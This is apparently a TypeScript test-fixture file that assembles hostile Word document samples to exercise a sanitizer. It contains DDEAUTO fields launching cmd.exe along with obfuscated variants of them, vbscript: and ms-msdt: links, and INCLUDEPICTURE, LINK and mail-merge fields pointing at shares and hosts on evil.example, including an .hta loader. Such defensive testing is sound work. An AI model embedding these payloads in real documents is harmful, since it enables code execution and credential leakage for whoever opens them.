import { field, simpleField } from './good-fields.ts'
import type { HostileManuscript } from './hostile-manuscript.ts'
import { documentXml, manuscript } from './plain-manuscript.ts'

const inText = (name: string, inside: string, why = 'loads content'): HostileManuscript => ({
	name,
	make: () => manuscript([], {}, { document: documentXml(inside) }),
	why,
})
const program = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
const starts = 'starts a program'
const deleted = (text: string) => field([text]).replaceAll('instrText', 'delInstrText')
const share = '"\\\\\\\\evil.example\\\\s\\\\x.png"'

const linking = [
	'"file:////evil.example/s/x.exe"',
	'"\\\\\\\\evil.example\\\\s\\\\x.docx"',
	'"\\\\evil.example\\s\\x.docx"',
	'\\\\evil.example\\s\\x.docx',
	'"C:\\\\Windows\\\\System32\\\\calc.exe"',
	'"search-ms:query=a&amp;crumb=location:x"',
	'"vbscript:x"',
	'"ms-msdt:/id x"',
	'"smb://evil.example/s"',
	'“v%62script:x”',
	'\\h \\o "a tip" "vbscript:x"',
	'\\l place \\t "_blank" vbscript:x',
	`"vbscript:${'a'.repeat(20_000)}"`,
]
/** A part beside the text. */
const inPart = (name: string, part: string, data: string, why: string): HostileManuscript => ({
	name,
	make: () => manuscript([{ name: part, data }]),
	why,
})
const vml = (attributes: string) =>
	`<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="o"><v:imagedata ${attributes}/></v:shape></w:pict></w:r></w:p>`
const property = (name: string) =>
	`<Properties xmlns="p"><property fmtid="{0}" pid="2" name="${name}"><lpwstr>https://evil.example/x.vsto|1</lpwstr></property></Properties>`

/** Addresses outside of relations, and add-ins that belong to a document. */
export const hostileAddresses: HostileManuscript[] = [
	...linking.map((address) =>
		inText(`a link field: ${address.slice(0, 50)}`, field([` HYPERLINK ${address} `]), starts),
	),
	inText('a link field in a simple field', simpleField('HYPERLINK &quot;file:////evil.example/x.exe&quot;'), starts),
	inText('a link field, letter by letter', field([...' HYPERLINK "vbscript:x" ']), starts),
	inText('a drawing with a picture on a share', vml('src="\\\\evil.example\\x.png"')),
	inText('a drawing with a link to a picture on a share', vml('o:href="file://evil.example/x.png"')),
	inPart('an add-in of the document', 'docProps/custom.xml', property('_AssemblyLocation'), starts),
	inPart('the name of an add-in', 'docProps/custom.xml', property(' _assemblyname '), starts),
	...[
		'<sl:schemaLibrary xmlns:sl="sl"><sl:schema sl:uri="a" sl:manifestLocation="\\\\evil.example\\s\\m.xml"/></sl:schemaLibrary>',
		'<w:mailMerge><w:connectString w:val="Provider=a;Data Source=\\\\evil.example\\s\\a.mdb;Mode=Read"/></w:mailMerge>',
		'<w:mailMerge><w:connectString w:val="DSN=&quot;file://evil.example/a&quot;"/></w:mailMerge>',
	].map((inside) =>
		inPart(
			`settings with a share: ${inside.slice(0, 60)}`,
			'word/settings.xml',
			`<w:settings xmlns:w="w">${inside}</w:settings>`,
			'signs in to a stranger',
		),
	),
	inPart(
		'a base of links on a share',
		'docProps/app.xml',
		'<Properties xmlns="p"><HyperlinkBase>\\\\evil.example\\s\\</HyperlinkBase></Properties>',
		'links lead to a share',
	),
]

/** Fields that start or load something when a reader of the document updates them. */
export const hostileFields: HostileManuscript[] = [
	inText('DDEAUTO in a simple field', simpleField(`DDEAUTO ${program.replaceAll('"', '&quot;')}`), starts),
	inText('DDEAUTO in references', simpleField('&#68;&#x44;EAUTO c:\\x'), starts),
	inText('DDE in runs', field([' DD', 'E', ' ', program]), starts),
	inText('DDE whose blank stands alone', field(['DDE', ' ', 'x']), starts),
	inText('DDEAUTO letter by letter', field([...` dDeAuTo ${program}`]), starts),
	inText('DDEAUTO around a comment', field(['DDE<!-- </w:instrText> -->AUTO<?x y?> a']), starts),
	inText('DDEAUTO in CDATA', field(['<![CDATA[DDE]]>AUTO a']), starts),
	inText('DDEAUTO with letters nobody sees', field(['D\u200bDE\u00adAUTO a']), starts),
	inText('DDEAUTO behind a megabyte of blanks', field([' '.repeat(500_000), ' '.repeat(500_000), 'DDEAUTO a']), starts),
	inText('DDEAUTO with another prefix', field(['DDEAUTO a']).replaceAll('w:', 'word:'), starts),
	inText('DDEAUTO without a prefix', field(['DDEAUTO a']).replaceAll('w:', ''), starts),
	inText('DDEAUTO outside a field', field(['DDEA', 'UTO a']).replace(/<w:r><w:fldChar[^>]*><\/w:r>/g, ''), starts),
	inText('DDEAUTO that is never closed', field(['DDEAUTO a']).replace(/(separate|end)/g, 'begin'), starts),
	inText('a deleted DDEAUTO', deleted('DDEAUTO a'), starts),
	inText(
		'a DDEAUTO hidden by a deletion',
		field(['DDE</w:instrText><w:delInstrText>x</w:delInstrText><w:instrText>AUTO a']),
		starts,
	),
	inText('DDEAUTO in the result of a field', field([' PAGE '], field(['DDEAUTO a'])), starts),
	inText('an element in an instruction', field(['PA<w:fldSimple w:instr="DDE a"/>GE']), 'readers differ'),
	{
		name: 'DDEAUTO in a footer',
		make: () => manuscript([{ name: 'word/footer1.xml', data: `<w:ftr xmlns:w="w">${field(['DDEAUTO a'])}</w:ftr>` }]),
		why: starts,
	},
	inText('a picture field with a share', field([` INCLUDEPICTURE ${share} \\d`])),
	inText(
		'a picture field with a share in two runs',
		field([' INCLUDEPICTURE "\\\\', '\\\\evil.example\\\\x.png" \\d']),
	),
	inText('a picture field without quotation marks', field([' INCLUDEPICTURE //evil.example/x.png'])),
	inText('a picture field with file:', field([' INCLUDEPICTURE "file://evil.example/x.png" \\d'])),
	inText('a picture field with a mounted share', field([' INCLUDEPICTURE "/Volumes/evil/x.png" \\d'])),
	inText('a picture field with an address cut by a tab', field([' INCLUDETEXT "ht&#9;tp://evil.example/x.docx" \\d'])),
	inText('a picture field without end', field([' INCLUDEPICTURE "', 'a'.repeat(20_000)])),
	inText(
		'a picture field worked out by another',
		field([' INCLUDEPICTURE ', `</w:instrText>${field([' REF a '])}<w:instrText>`]),
	),
	inText('a text field with an address', field([' INCLUDETEXT "http://evil.example/x.docx" '])),
	inText('an old picture field', field([' IMPORT \\\\evil.example\\x.png '])),
	inText('a linked object field', field([` LINK Excel.Sheet.12 ${share} a \\a`])),
	inText(
		'a linked object field that runs what it loads',
		simpleField('LINK htafile &quot;http://evil.example/x.hta&quot; \\a'),
	),
]
